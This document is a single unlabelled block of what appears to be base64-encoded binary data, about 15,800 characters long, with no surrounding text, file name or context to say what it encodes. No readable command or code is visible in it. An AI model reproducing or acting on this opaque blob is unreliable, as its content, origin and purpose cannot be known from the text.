QISOsvuqQWd5lAGwX2CyZECbJKfz4drHL97FP2aQMBHJW2hz21MGH9UEZTwSQpWYG0LJ/ggVhI9TLC/XyMC9TP0Q9LJya0khLspx9XL/HG2DeoK0CAQmMcosiLnhWcSny+1sd3wGSEC8dtlNox5WarB8N2gQODl6tAdVTXBTYBEKwAgLkg76rdTulztH6X0dCkRvGdBatZos0aweh7MDxR5x34I+IsRpIvwOKn2xdq+kq5o1dJe/5B7kBeIRt9wpoWW5P2Y8ZQHBy6YRx+hMHcAuOROKihKFaptkG2eG1BC3ZcfYjULR5juy3iZlQj2oK6ngzIW8KRPJkdCZlIk+JxyJ5slq3vw82WKP+prneTu1v4uiT6cextjsicJhBT7Gn/ORedztP+8alTD7sKDCLdhPyzK8ii/V8/qamjhdVD0q+HIG+7/tqwE/UWLA8UEga8/fNsu39HubCnqHWCDzqlnShCe2W+uI8uOjBkBwVRPKkf5NGBZPESzHWoGzZxoUH+oPMwAKgsfKXR1L9hnCFwHRslzg/YDYPN4ZD3i3PFKushzRzPSc0t7E/1o2xtf0u0CiBMrqFFlF+bca9MSAd0MkIUgp2ZDNwfHHKWFRzn7fNOx88RSWFhPv8sbPoq9ETpryTCNzxf6UF+Ebgsf6TnXxPx+K1iK/gg5uiGZ0a9Bm5tfcMN8cQJRvqs1f4UFNI2CL1qvJkF49SrV7W4GqfCe597skkvwCBf9JdC+gfYrPFlgdvMkrn0hvWqvwmstIQFYNZQnWURMAY2BJWLe8X4BoL8faBHlkghrVbVOI4gVMVDNysYDsI7Q1iz2s0Q9bmP0I9HB4l711xfEjSFJzROUyd/wF3YP5PvzgpS82JwBj7dk28zf70veY9QxlPmxkbb0ITdWcr/yGTt5z/wwTSFODZWw11e7YPpI2NdtYMo29GWpEss4eJu5b8mEAA3B8mk0YHhcRXx8nerXvhpR0wBOOeaV2nG2DM4wYfcyOclBmPKYmuWgUf5jWrXcWbBI54u+SQDMoYUdmUkqfNihXiHtHtMF89THFuCu7PUlGBZKqeC7BmnMNxpi57LXu5yGGzR15D06xNP6ll2YdcsZd9Yd5En1JNutMLPl/EQd7xKMU5briLcY28jhr0VDMiekdYrvJKrZvhqMowkc00WVA57/599PtQkjrhAkowtPpIijbAn7a6lUaKIhc4P/9/YbSAnBo7KW3TeEML+mlrZsY3ym9KKxQtx8cXFFsKfCR6CS6t5YT96kx3PS4T1E449Un/v+JqQSkohXF6vVgq20xoZmI1nREyDNfNkujsydHVy6agVT07npaFfrmuYeiHGVnN84TWuwj1207By8XtwcSc24O7XyNY4Bf7sYiE2alktkeQ+8X0Z+1oYk0YqmIK4i6xXEwA4VZmrKUCQYDpZR3Ra5oTt3hxnK2zqy3qy+iQ4qoScEPzKx8+hR3iuDjEP/vw2yGzH6ol2qo7clt3HdjPHTgAJn5yF4mM0TRQv4x8D7B4dNSJmEveUrV4eHMcFmpXHS2NKRQPQcKtFvzB2KArMd3goSAvbMIpStGcHiLijqq9m3PaW8So+i39uxVUf11Rpk7DJ+TElfLmaSsX8bh2xYsCxXXWGSPKR6066Ls8k3NNmuHo2lvXfi9s71j+UF5z9xL48b8tHO5laZw9dab/Y7ixO4Le+wq9rK+6fJEmqNhkJ+CXBhFUGSpLrBbLp4rATjnmj4E9D5BBss7YiU5Lk2icYDBUcQqei3Gd3K6xzG3Z2mkcX5ZK7WrnYnW+XPnqMWplz4D0IJzLtcTyXONUOGt3xZ/oplFXvP6ru+vldhnlFx30TnchcjS1b6zfqfrbVSalEcPPfUcklIO2h8F/FjgJg2GhhCUeq5AXaFkpRcLSjf9JkhumHt7JC4O3XbKSpvt/Zo3cLO+GnJiFvT/YEWwngafHUF/9m20LWPx+MPZZ9bvqYCqTg4RXXytbxC4Iu7IRSJu5vXq6rTUZd2biMJmMl8cM5bLMXtzPCMxQrj1CjpUAUIPg2+IEdKGpQugAePzh9OwDwkat/vTZvvlorhWthuJz9Ie355eWx+PJrdjoiBPf9pCDn54FoEIwDDqMZTpd3Wna/9Sovxwjp4lErFG/q7IsInEF3zW6LAnM5cfQ6fZAsgJjYILGJio9stB3jv30cH4HALDnjKYU6ZzrETx1YfQCRIYYZkNgRszzvRaxxnWa4TneLEhzMZNK9kzZTzy/ZbclaEjnAFYmp2ZYncQ1Xl37dpFGgWJJn5k8bCN80lxj6ueZ8G4zdfjfnqq+xOKxgargsoD6J+0zVq5rAy9727o7CQhe0LyX+cmMEEXedYB9qMAECY0e1tJ79Mzurai4lv8H9gjC1upkloNk+l5SOJPxMjA0x4K0zVFvf1EupZlxiRztG7HUd4PdcPg4rUTdwILx4Pb8GtnYcqk6SENEGxq6tWNP/oh4U8wnSp/51a1vW6re2tWPOtejtZVLw7pk7kd6KCT3YukKS4YWjsSQe/yPK7FQh5+KF8U2UQxYoLr2lY00SLL60vxC3JeonM+ts4kccBKeinmfMmImGOHKuY1uMFuZ1B8vp01+UTd3bQzslcfLJbajHncQLNPFz/XwZKLNTSxfqfwmi+lkseQKgr462nmIox6/i02wHk60mUbL2HJc/ZQPT+7/Jduhso1zlzGlHTb13AuFaPHib/9UYyzeXfzFjp5o2Q60UTJ2W0nEf/Z28w9SCI+lPcz1VwWbxjLjL92FLfxDeoHe+eDftdZ2bxGECsH08i/v1+gwaYWe6iOz1JGI8vg578/RtUaI0zJ3hkDHOLLVhDcdBwDb3cU1a8sYxBGB4O9HC7/oD6qHuO94SfeWfuIoFgiQsYr7bMkifOMkbzwRhiX/FT5n5x39jTGd8zrv29sjj7wtQUrN5A9Xj75uKv36RIEnXT8T8fnXZCymflrNb6He4/1pTsjMQMnByBkD4nkamcvTsFIwf+qPrQ8S2A1fqofS5AkxrYL4BFw6ppiNSiiwHp62BQEowZ/ZJbtGmCANRDe+bBZ6uyxxUhcwCA++wEPw5FgnzJBQxi9ykiFPP2NEl8+SCI0HZ4LxhAC2DR/D5DLweB+B+2bePuSI35xng2HfDVkj5YVMK4IMCcVsC2tr41w6b5jOfhMmXdkgT2pJ2goSX0bqz963qRAOnellZLg15SGReo5vgab8y7N95N5Rx3vLD/GIh3lPiQfxrx1OSCsLtWHjE0v1Mcyc5ya+TqH1lEiqdGb7+Ng2uBi9F3lwmKCB6l58dOM+jCYrewjOvPRU4KMr/0q5STodq0UKuiAmi5yVD9EC4Gk5kEq3ptj2sTclvW5KQSGm1OtgMP5y9frmkxm69HdKX9Je4PMBiFIKY5ZQpMx6nUnPsQUAZSNd+wM4zdEyfWueNH5mbQPSwv1Y3caKGqwClStJUPOURb5uNffy2dvpeOTyjez15aHuvYjpPVXqZwtim3PQ+vpiqMKE2+wD1Pm5V2LOm4pTyz3MKUBBoiwxQdM84BTeV7Y1zN3z0ic50ZT5ELai19BQgAfGbrPsteR0eZ/d5e0hn5vEhME526iSV31+53l4eKpL3IKevm3EpU6NIW5P90LwSpr37iBUf/P403biGCs9CrioavBsNlvQl01VjRryBwi9Diu1XyvA4kUn2T6QUVxzGoiwgp8AFINmBQUC6hMOnBB7EF9v5CV+rIiJXzRB5EIJxYNQMg6aEvi9RChpAIjeTQEv+3Z56yiIMvvC8+eWAsOz/8YUKMlQE106gEDMfv3eedhNehozrbHdNkXIroAt3XlwH8bxYTeKJP4Fnbf3h/0NGCV85jzaiT5QoE5ZnH9X8R60Y64CVzYs8QlSGAH2unR/ErYXa2KiD2XzaIAi3UMnw8fdx59lfYwBHeMKMuJdAD6/X20Nqb+JAs4/ndH7fMqz1ORc1/gxTV+ScnrCKQKiWirG0iKoyU8Ri8XxciLHFug73WalBIv1/sghjaslZiyPyfXafslmnOi1DhUscStwfH4zay6QCUkT/gQjIbcdI6fwWEitpIn8IboWOrC2V9bYaqYTLJ+s4KM9z/WHZVjv7Y1MP9Zu+aF6ZAkK978dFfWdNJyfMa2O9xTn+yhPYXUiFpMDqgJddkH8k7fpOiqfSniPuK1knYyEMeVv9wBYxB7k+CqOXCM38ja/Reopzmt3Skqm8lZ7CC6VkHSa3MmSMfeQWKUjr36Hw+KKPEpMFNt22YkC16HGNr3E1WVtxWtMok44K0H7gzlsD3gzMBhXbQd7JWt8e3Qgzrs4ooaB+A5yMsqszJZkgS0W4RsWL7RCq8FsKlyH2ySvFbnjH4tulht47WMNx1wXH1b/nCd2Rz4IOXDajORcDuJNRzmIjFBvtw82FC0FRw/Js5TyedryCwIss4qE3/0uBi0jUo1MBS4g8iFKDHEzcT8gH1Opp0yE2Y63ukYEQHtKo1nwEW2pQWl2T18T+26HEgGcHug2ZTmYeYM91vu78dU3rG8EVgtxVLjyoF3SqYTNk1KfJqPfnX6X49JLVoa4SryMi1OXPAb/TRHRS98J9Vt+SEBXbGwvZVNvy0dLMwvztrkphkbZAnx96T/8jR4R4UYtvpDcevPpHmgDMSr3cXSimYGQq7Fzs0DMT/GpWLVxhJ+F8ZhTA4zQxrR2ZLXxxtLmwjYBiMgVANDxHCcDH9INB39+Zil6G0ImMb7C/EtGmTUHw1Vz6jm40sdOP0a4xsm3aftVnBhwQAzLjVlYxhMgAkaQ0kS3RCErY/cyBW2GVphB8/HzE0t6s7HmsdBKEykNOHgE8MVArbmgfJTc6fl/yYxRR7DTn56dH8sD+90teC5xZux9/XL80akgIVDWMDk838HrQO9+wt6vg3WbbzMyMDw0mccqKy2r0fiG05jjO0j7gOkSSKfGJ8z9G4t3EEOKIQCw2hOomwJbPaj5w+HJcijcA0dfVwIUUBtgNMHcXdE5YV4f4CH70KMqhpWQfon0qChwJjd+1EmBwV/1cRmAYDs+eJTV8c9UkRje2DmLJPjySq7ybgt7kqUaLwMrLEDU3QfTIZZ0k6tQos+3WfaaMKzLnpWG+mMKS+OOtBk4KIQ11Z5uOhcV7pO9oSF6qcO2prrq+bI293aaYumrGpnGzBhkVkQfV2fnRUO2h0nfLzS3/4uHUcYuOfezzJme6aIJenep5GvrzV6xsHf+6tnmxzTHcGZoKE6h4ntiFZcs1bcEZGhDhgnSVgJjP2z0Na2OInQ4QC3MPtkUVF7KsOBGhytqhJ6SBRB6nknJzgZqzGZyq3RSe4fY4dik6IYZGP3I/EPUCEvBeR7o4kXYKh8iLOfiRiXJSyQFbkETOPtrgLVIf4VGkIvS5YIeCPr2l2YTTuADohnY2XUFMjM1WqaTsYYrEM7jBepHjWyIivVWQziGF8Py58dCB1IlENzDH2MYwccRwjsJINpqSo5dlAPZi4HtG0nvPs/qfWf8XHMRgbMfc6haxAALjfV42NM2TYQi0/7c4fB8fLsriZXDXzQN88+ZRz/u/mXC1SwFkpRHdxNG5x/fXOElTFTFsCmHvAIl7SwiOfj3OoQFi5AQAZb3AdgdgO4jAvyJIr+M+JxehIZCJugtlOKuVvDbSYp/CY8Pzhh1zvAVtUXRm7xUCxwp7HCnrV9sxLOPmJZgtJ4Yr+r71sQPhBXAKcs1LEctAXRFOdLKmyvpnOAEtj8vR6XKSUIXeFaVU9RB9N7Ry0z2yLjG8GJJyMONACyLmBaQs2ud2tlkWmSWrC2KWJkjquxQCDKEpBwQi0y4RVGjnDXxGUK8Q3CSBY/GYaGNAVYQXblcOvwEDK1W+4/mVR4wkYbHE7weJEZl8Taj56h0Tb4nGP/CnxhurR1Zsv/On1PJYflYj3//iWtNTpklY8LIr28lw5WYxFCrtmhBSa+0GhuiTVONwne3mF2bEnzdSY1tjynVaD22C88yuOhtPIqjB+ajTP44BHoiRZfEt0PvBL3/P03s7CYWPOV41oXtAtZfrXdpfhG7fhwc/toJU7Cl2hLtXTIJNQgyM0kC/buWkQpr5Ujdbr4zUFaptM9xn1vfXY6yQ7Cn//MgPEoW8KGxNff8B0z7CL1Di4+om0sj9Cz7EuLApGKL/vEl6gXojEhK7x43gXDyAxzuqeLDeWMT/qUDq7Qy9uY+9M6iNQgq17hsSS8ANRsqiComNNgjZdNUbJ7Mre7ZAY5CxxCDZv/c/ZprcQxOgrFaNwXrqUTJyorY9zYfGO0/jEI13qymH1vY3/nEyXxKAGZzXyLyCn7/YLO5IErXp6W4ZbdofME0B8WwxlIp5nhmgaeZlRBHtyoE5gfVtjOHhRoDMxU82NENzTAjCdBUokvDk5RgnMsWe8hAnd6CA4m+/ICm70ZLWul49M3I5SA8Kox/UQqpIzWZKloggSxsmOit1jrNz5gndYKIey7/mnvo2qf5EonnVa1hEJAXnbHxdCL1BtWrI7J5WrH68djR+GejG6GLfWlu1zT4vBKSoN9yTd14ReDWAS0bRYk90HFhj0/JeVvmR9MsC0zzoSMmmhfY5L/fNHoLqJDjLtGSi/RhEUMya21/FoCHPO8hOVD0eMRjKnK+2A6S6WCo+QcREYd/WARw33UBVlF6dRzPvXZAQSWjajRNJW9bjdwuTK33L5tJXP/xZj2R63amYdHLXrMidGiBaNLMxwC8m+5411gvRSF3bVaCPyBGP42VMrmq4mYqCNKLK4d+jEIr+cKI7AMTHM2PNVlpAvqOQF3j2aLDU3WXHpnjgpgJvX6pvrV7SLP0ZsmB3T3AdvInPZ6Cr7L25KM35AByhrKeh8UJoeO6HJr3OCukSu/HMBL1P0RTYYtLDmsajabRl7JTlc5j8koDl+rEwQgOS1zmvYJssPmdR4jkYDbiCSDPEOTxyZoaUdxQryt4vntI9szoEuuFcFHrVJAQaadV7SMOvn6q4MO9FsGNk9RvUqamaLZMoLkvBDs+TZ9y9Zi/RhHI6NeFoZZuZKp3rYt8y7DLIyiPZAq92Oq72HcGvKmXfwkm8NBlXgjo+3KK2FzzqwIQQ9E9epvM5gX9ZqTyoDc5zbPrzDwU0hn9ieSjIQt/oVbBee9h5RapBaqfjmd78QrQw+E0iR+Ojv88Q2oorcmclAf/jbv2LQhaUuqxT7DoB6yJgeegFSkIL6ZSntFjVCuSRDIlRHPPRZb1QTr48Vppjz0qn/tQc96hIeJ3vCzjlGTE52MqP8flJT5Zk840Ej3eO8yot9HL4C/5yNZN5xac3TvSG/QW3dPq86lJW6OBujyE30zQq3YgrS7CRPUeKOWUmXFcL3Gcy19QLtbaJYZj3oG4aykURvm/koCREHOASZ4uzbFALCHFJD6pcLacj3Jl3/MhlLnPmUFp2stK8Z7bqq3sZwLFCXmI+z6K2eVIu5cuoC1TfW8vDL1DXIpEbxQO6D9WBl3NwSuuPvkhy0FUpfFwHc7T+Q/m/fzRNv2aVuS5PI7mTH+/1Pj3R/gkNH7Sy5l+5Hiw/3vQPQEaYmsTrLyue+m+exyfRydTN5Z+ejVTBNcR5sv0TFS5zij1e3LNNPWStCuQX+8ft9EwvEZb5rUpmita1JzWht93EpobwsMNm+GA+ou/z9vpw0CuMi9WNV/O2673x1SE2dFbgJxyZY1DwLY1EtbRxPH1z2aLpuih5nFTwQNPg6RgDOHwrQD7kBicQoC4fCJX8TCZaR9RhRBX6tfPWKLNllTM9J8VeKg3YcHOSJ1jDft8DX8Bexs/zhmRLw5Jkvt5ccTEP5Ldd8bRFKwd+5V7RsLl14yy9AmQ5k/g5Uvny17muSveEu/i7C47Hh40wYGRbqI56xSvygxSqgPGSfdP8nYKta68+j9qnL913dift+UJQswI78u3hOM3rvEU/Ykq/HByJQzr78Jc7g/yEJsSkPiEphoQaUG+XKHB4SWQua5k6vzPIcAakXrMMy5c8kVVymmw3xgCC6+eGCqYeXICsVNyBRhsKsNkeI07G/i6pc847aZStv/OjW+tQSs3YpNCn7qboqKP6S5alsAB1cnRzj5l+zqpDM0u22p9E2kotmoGptSCui3ZWDDYrgOCOGj6V0biE7Itemxb+JzkUMOjl5D6GtFHpEXGFaCYigSoRZtCfGuweuygjs7Cj/JdJ6cLCuCUDkMmkwLgurl5it7Zq+47S9p4yzbEwavIfi5DcCdigxCNy7RhojlhNMh3Zevepha9nJQq+X4rdwdYXY4UFrN7ZGIuP5lAmfM7s8VosURT3UpxOFdeCzDxQxujw7Yfl4eeKhgRTr2+haeI4IXzmdl8D6wEEockYgG9JxpFe6BpK6KJyTYoRG21PsVKAFxLsjO58gyYWvzN/QDEXRl9gtxmmgZR0RQ6wHIJJ6g+u57Q2HNGOOTp5cFRWd1B7AuRa7MQT7CiputdVgFLhFgGIXBf9PpV5UoVyVn1WXpU8HsAm/BAFcVnqPTTycxnEH1DR4Wxw3QrpLEbiO41p1g7+F/PU0Py9/RwS0twGY3+aIhbOC65JY0f2WgA36DZeIHJozmKVUQoVJgawLWU1mcX/JLPehwE7wDuwQwvGyIEJHNkPwot0sEehxA5mHdnbzUhzHMTBlSkO2KQEz+ecvxi3Yhx/yUmM1/dLTlkB1P5h+zd9lgr8x6CK+dm/1QYYa+zF+FTrXDE3ZLrAKvTsK9i9BVo8WBbTEQmBKki9ujNqvOCSHnTyJn9pIqlG39G6ixbWRZ52uuCz7L31Zqg9U3zIDx+ODiu7raKYmsknXlUF0TTPY4iRCWzHzhqFhOJZrzpWgzwq/Buz1BQCcPYCN/mxcQ19h3CNqZQNYlWpd2P7WpppmmZlfNZr9t7flDdKcVzzneynMmHFTu2f3qDXT4igeLZ9hxl5S8fy9e1Lg69htRFIaJAvI4DBixvInoNLqZI27ZNPUSEZRkPXp1NIGmEV6+UceT1+qrDKBWb7s8GpSPg6lZKoGybKIatt9dWndzfQTGqaxWL7P6x1tTd4sYHB7qTnN8iDdHpwEaHRBqB5nLlehT0wveyuM5sSzkbohqi9BZckkw/9Bvs4oXKvEkXgJx/FY8vujzJIM8gXWCrC2NifoLq+FyZVnHyrdeaz1xb7zW++ar7sxZZL9RSCnAuFHYOGc0VZkYEpM8OECwD+yGQFY0qagfLSm/bvC3HfzrvVsjgN49ezNVZFsEdByJSZmTIsu86S5xc3JZKcUNFoiwxdHbnTgrvQOBQhU+gyTP+pGX3rDip+xLIJKZ7roDomQ/kN+pX4D0dzkabnAG/DT4P67O8G+EE3sl9/DAJ86ywhOmmSnf0oDdWp/0d0drjcxKtcs7fKNBDOVisKiNp+BSyG+03gxHASz5mL5Z+orWUUOZOhHhAtJ5CRTsi/Eb5mLBtguHG/3UJFU/YXMBzbx3XWBjQAuENzprVeYA637u15xwcXEtA11by+oHRRdMrb9uhu87YSq/AgHEQMLFs+EFGXmW5MA/SPTwQBF1LNJ1hinzxwpYHFK6O3AirvaiwT3Wq9C5ys45ktZccw5wSUtJDhh5YvBBDVLDuJ44C8fs6/pCHLW2QfE8lUe4EaaN1XMR9MuBL/3PCLZmt0kCwk5gljoZMR+eNhRZk6/wc+Z2w01SPPcy6QvwR/5uktV8UkkIukro9uCbeucHNy41WkQiK+Fi7CG6rQJ2dvnHh/nko/tErmJmFm/GR+sq+jAa/4SpUc7pysxcL+dgkIg2HGMWT3WC0h2CBUAGx5K1WZw7GyKPJiw4CQRGkTvSMO11FQbq39oJ9IRqGnc47vHhMNPsVUzZtVhjNq0wYBmb2rIlX7E/hZHzUrxDJhgtlsdm11aP/tkURULJRUDRULflmO0+aYDzUJaAxEvwlh33bo9Yf23UZyk16+2mS2/RoUIQ9POLoBR2ml/uCa0vnVWwTthgipGK9cpJW1Vcah68+Is9Bof/Jua4AJSCAwGmlJ49PXMZFOJ6E6E/fvq4Xrq70MQHggZdenB1C2ZR0r3juTq63+lbhloP5RShsgzXtM2NCyqCAgYcosIKjtVItwiOOifXZa+IkJKkPfDX5iL5GWGRXTMlKfWKumlgw5s2B10ra96WpZmy+eyefrn8XaTu4cyax6pqSdICn/a40tkn1Xjj65HFqadf21vml5Osw1DphksdRJoG1RnKOaHx5NG0HMEKG2BRhAPVmJRTDzaDbOCCPa+HOijIxgzdShN5N9JWk5iYG2QaBC7L6M3kTPVlbgiACAr9unLe0721nhV0pm/C2yX9HNkEh1t4AxHPZupJjP9vAEjGQDZVDgc7ODeT9GWsIEviAy/VwaiMcvHbaHwS6m5FjhrAxyusj6KKOt8zWwS4dYthvucMXr1Uo9aECz0gmdFJiG/A2ppoFBTBziwloOjwxtD+obaZdPguu3qUVzJhl4LGShSIBiriOna5SzAQwgU/neS6l49ygm0QAhwrlyXbOhajHCc2u3Lr7n+Z8dVsBU0T8sxjZs3Me1lOX2dhljFgzgt92c8HADLzEiTquV6HOzEOfVyk+sNztg8LgHSTWVTb0iJcV2jNXgf/hCtzR+TrsuPcV3pUKG33r3yf8XR0NLw4JND6CrV5mILFc1hffGq398cYIe6q4zv//vytCd+O0OZJ27yl+r08i5aN5+/jlStB3xJhrCW1KO2nxMAdAqxyJR4UPj8c9Ep+rXafTwM1QpoSUaTOkZ/V4cLQBIAHT7z26rruSEX63CLvPAKJsVMcY56dLfhTk7uLuYQ3NjBsr9WmFpBDf8I1Jd/hLLI+Dc/R0u4lI6EO/PLeiotgnDTZzj9hIZ3o33+uR4Z1HXy4CuWBhZ5M0+t/RplmN+a4ocNrmEIjiALZIzR+gfKy2z8rb1L8g+6CVN+pdH+vohkCZRpS3n+nHUfxOsHLaj6f2HGV0gqYIxi0tLj0x/FeB22HECW0NlDU1utyVKtje1fYjKiIDckGvA+NwTwPa1XYKEXqVBxD/vfJ7SW7IqRg2p1dDowK7kaJoSOcrkO0/jyuczbArfm3skfTvw8AfHjIBQfrT1iLzZLEAdrvj91VaMxDz9XlJzw4pWOpIJCHiktTG+j2ROL/4owBt6mWgls2wiLFP1ov+gd7uah9HHaoulJ8a5nGIGUJp4EhYxXAoG3T5/uJ7DdRPnEfLqKTJx9jPDqPD7UUZhWF2N0BE26NZOOMw7jL5pUHjA6/icxDfNTN6xvpAdIFI3wtHawUKLh5asLWuYRJs7wF68JLgHY3njI57182tpvQierNRalZ0BYqKL4Df4MYGX5A1y8yu1grFenuT8259aF3dLzGDjTM2j2hIblxWMbFgT6zdZ4otXAKQaR5R0NqXft5mr4PVEFmXJC4WeaLCyeHFYoePcVIPch/WFEwYglFsuEkHw0TKnezbIWynAAJr/Osy7eIOesEDqrxkIBXTdEXXOw6rnIJRp9cHdSSmZyN5f3c162Iis+elhn6sdz4XR2OrwujSdgL1l04KdzpOShZaS9emtnTla+pVExNQJzsUCINd5JxFZ0/3uCRVI8G5wsz4DGD2ICgURNgDFMchg0onYsKzqss4j4OoE/2BaQeSDCHqXprHkrmuksvmNTddD3wxPLivfcyP4lsFd0wwt5fkxO5SpT/PqzrnK6cYfKZeCSG9CV1Qwyyi6Wc7o1ODoloJ738yv6+/C4p7xhGvjM+1E2C9xF+tqjfAs+zC+jaVlvwsaUZ0ZvdixY4hwQyuIUqHSvzXgzi9amPGaN27io73rxXOsvkJzZ+dmXTKEqILGbGB6YUbuIhu0yrmG5p4LyxfQ8yH5qLV2n9EY0u8nN1/QmpFvOIfHuYMrTcUShsoMeG0Oo5Q6a0eqO1yZwE81wl0V0rDyR0DU/El4VDle666QuchLlJ0pfcfXC6zbsgVJAAaQBWdEnLIK+5ZSXB9FF9eqS1k02QQRerjPlE47d+EuKhD6BdrLK0z/uf64xOELKI/+XT06ubXxUtYoehs808xLJiK99AVBuZ4afYu/hd+V2+EIYDzMDnVkS5ES38t8qRjbGkO22jUwThW1SirbHc6f2LzKFfQZqczvdcnWXZXYCQsTWC9fHO3h7/ufWFuyH3+gzgAE3hbcyglGJ4hDQTRou6PkO0vRVsSPwXn9+EQpCS6SlxPvjoXOimAK1S9VBCNJrFW0RJc4AGg6RgyPsokHywKO5JlDP5WxwTh9PjqlsQZyK7yoRWFMOrjT2VSJA0CqFfyR0lKGpbPoymnmysrDSrvltr+BaJxIxWQgzaaN+EzNY+silhH6ncyLo/IxnmNmhpBqEuQ0hBhnTvMKqu1lWjB5pCXY5WDkHlYHKfzZPbQnqDwH8ioc18bB9t9uQM24Sy2SK1WjpSzs1uzh/y4+M7ddFOSso1mmVjFthIgLtqfqZvFksxWp07jwntlU8rDqzmLugHG8jS9NrJNSHuIYthBkPSLQ194qtKO23MI0uOAsL+2inzpKjSPcvpm/3CQwwPYJiStrz+jqpWiMvCuQZBC+SnxESw1SC98YZNgpIMzC79K5AIarAenOT8H/WnOiqpacRF/CYoycMxt+yMbI9dgKj0K3jRC9W0l7jB2RZP33tizAoIfjf+O9zvuQcDZMLBzcaWrCjwH9rtPiiMMFS3YpfqzluWhKA5TZwPn2dWAEDmZLPZDG6tBxDsJTPHCR/NiF7obIOfRF/C4DBK8AmxjISEcaSFqfaKadmRbrZ9wLedeBlhUlSULXrmDAhhw5XSjFn5vfBH2lOPJCYkKnlqa9irRVNPq/oRHRbW7jCsgeGEh6CUI3SlIUOMUK2m3U52cdUAmid76/dttMwWuu6WTnXZfrHmXFgA2MzpkiwfABhWdUTyyu+i1izxZShwaw3eTt5FXd2Vna5c1lYTzVqMo865xiqRWl5ZdF9jKrcHjt0522lf7npoqb4v79FBKJqjqhRpBHT4OA8zY/yA/0x8hGDSYDKURQAy+dJYjC9Zv2GC0IWtXrVNw3PU4ayw5ihzJbetcYtzPpdIXwxe1AyuHeCeQMMngFT/ZWMTCj29qCXnSoaLxCh9akojVnehjXNF34NkpjOqiXJQ65Ni+lFAZGa/VBqqt6eTSPKN3rOgpUQHRaN9Bl9iOMHAp6Ci53YSaTYoFtkmw3L6elDvw8ylUJVSQL3Nd2kZLNpTcdDeNtSVC5JTpsEOY/OX8uuAnLdGYG45t8NXL2B0w3NUnhkvG92nSSZMCTjhuEvvcqD71FYEIXvIc66rE0GMQKJKZX/Vc2nh/LDTJRERqhxVoNoXKXo4/6daPCiywYrk613RNdxC0jYVKdaXjy1QdIwSR1+gBp6fB+65FqVZf40nskZ9+7OV3xsgfDRObfAyxg7A9Fq9jk0GMF49gFTM+UYGBE/o332uLNiM0/Pk6POcvsPxXaaQ4PlHvKJq2j+VAyHsuNymtSvamOuGo9lKJHJhhan7pOi8JYmHtd5Y7PCYwR9YAsrdgaVEO2KxLQfpWPYa/0ohZrESq1pOb+D+BhnfWzbWmD6MokEqUfFdbNjIwdYRp88m0XF5P9Fk/COCKEIb0KviFruLbN0mnLEcRX/ZPpQ+VhtdTY7TRXXwgpokztp8k3Pa3WwhthR97CKHBDi6oHOxklMuy1b1cZmM8GH3QUUYprGpnLpPcKilDQ0gyEHqWORcs5CXPpXM4iyi59iO/YDPSd3/4vrhNk3Ye24AR1Ay0j7F9Fd5EhpEL5T4JfMTZOwL87bSOXAplyTtd6xkF0QJm2DMXOlvoN68SBcCgCjCUsA2/zbCQzsaKNmZ7ypUs5QojQQJR1JRvi9kWGiekydrmJ0TkoV4WDOTAykio4uh5VQAH2XKSNm9CV6nnR+g8A7w4gyH555M4Kkk4xyIAZfQNisgK1TuF3V9flDsgwrDiaVqGpD472SNX5fVdovXArgyZ/H31+CyYKMCoOJMHJb4A14hw7Nm6bej1J1jTyHlbhXNkK8t+jIN1BH5EAh51Z3L/fzC9VW8l/9TSR9lR93RK8G+tgN3Rx17XFglkvcsQ0e+8t16JsqwioCDQrGSH8t+wCcFyh6N+uS+AQtebxL8EP13b89mnsHtnDwIhXKSWRsK6WwC/abV4vnBuENctfZ/Ax9HT6ioamoAG5psS/TF/Y7XCh0iyZqptWKfOS/U7z0fgbzUn2raM2+ScEJ8LsOjMeu7UiBSbFgu105VwazbmbNr9YPxWYiS2YZBpfHfd1YTtPoFeeK9cOhutgfgzQlm8VPy/jJeysqPQM+FsrM3GcsRzs25nEUpc5f+xQnYw/xHrW6CuuOrq53h1C/LZZp4izvUEOgULLY5I5HCEdf70U6sTZ8KysqFT77JgE1rVMEWxfKCxCedASiANdsUN5K+FRtJ/Jon2MYBMvxhP25SzJm0nK/wb5MEBZ8zfOFrq4Gez1yFKsKFtPuM7fRuHN3MAwYXqs2xfZk1uW/HhTYnPRaMNPc3/lXabOZjThCub4YssSaWGl5dkT3qFUXA8nsbBEE278nP0EUsmYwKt3iEwhdvHbSEOHFxbCFGqjuVIhm94gds/aJ2B78cNuqViDxRf7VpwJ8zKSagi/lo6i3fDrWAuaZTXb1n8jECnZ8rBih16pSzoX5q6eC7lgSHoayEyFC85rtoFi5v/vK2oFPYuA9EfB19zb3AxmOcWH+PuS+u+y2hbcJNiZd0PsaXkNzY1v+p8+KHWH1OJQC78j3yUoVXrfoIQA3gEA1Y9zns+wCqC5wJux4EosJftkpXsQz+/Rm7Msy34tn3a7TM34wmDqPzIn3cektRQFKUZ+t7+fwSRRtAEvYpEY8lRL5Lk0mYrffZeyvn1G1Ed4qlQzoYb2uW5Qc4BL34g7ZNzxZsLht1UC/7Z1+4eFEdXTshYgpK2OPqpzMaUpXnYySxkOemhQuQVQeyyXUOyOUz0y1y+ngVHbs/SBvmbELVBbPXBL9Bk7wuChx0+eF4PB73qEHiq08cAKGRAiaq+LDlK+ALxk6Moiv0r5UD/ZR2YR28OvL8cQ2h+EYFqV6LNR8WgiQ89GOxi+urbvmOydvS5IUigGOtuPJzjOoU7JALV06w1k5ZcTiEkcm1Ny9PrByMh4RWtMXZvtyKm0oDs9RtIIQ9Pgk0+RJX5BfPHeuAavP4ZpyWKb2jziKfaYCsGcARy2dlhULTeK58xvFtgqZcM3zKOfSEiQn4eCDLKdUP2zmbuXiEgzhWdGd8QwYQCO/SfHJG62yGS0ZBh3qTS+PllNah4CdWd+HdDKbUFG9XSyn8+p+viszp1XC89gfNBJh9VxHic4Hd9SHhL1dCp4QrYKnBraOwkizIchw+yr2Q4ujLz918Qxno2G6j3E5s9OPfX0HRst/lfH8JOZM2dhGRXB5W/Uu0k5NErgms93jUQp/jp3v93/gg6YuVDwc/lyFp5wOxMiuJuxS1OZ/79t/h7peAPUqKVsgWuMhT482wJ2OB7GzICYd0QzJIm1il7Om+0VcoNvDtdXUK7HrkF2QZinW8EZ9bSC2KYMydILbJ8YLY9e6rW72m471cg/61pvrVfQO1j323OtoC2PRR3XUxRekc/o1gFWAmC8Zrtq1Br/AOM1k7xJ1mLOirUjdbIHz+bSo4UaoKVF/LHJZKqz8yT3P9s96r5mB8GqQIWjo2oy0/t1cPeipL1990e5/8mo5HtOX8KeWcOjitFK9ePAzPVqT03iIJYE2kz9Xi/dmzbcOunRffGa4KmOYH0ALGEl9hOR4aI3GksJOgjfj/9/eouGZnat7Iq28SKqg0BcpC1hWCYF+LROW32b